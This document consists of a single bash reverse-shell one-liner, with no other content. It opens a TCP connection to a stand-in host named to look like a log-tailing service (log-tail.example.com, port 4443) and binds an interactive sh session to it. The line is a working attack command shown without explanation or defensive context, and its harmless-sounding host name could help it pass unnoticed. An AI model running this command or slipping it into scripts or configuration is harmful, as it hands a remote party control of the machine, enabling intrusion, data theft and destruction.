0<&196;exec 196<>/dev/tcp/log-tail.example.com/4443; sh <&196 >&196 2>&196
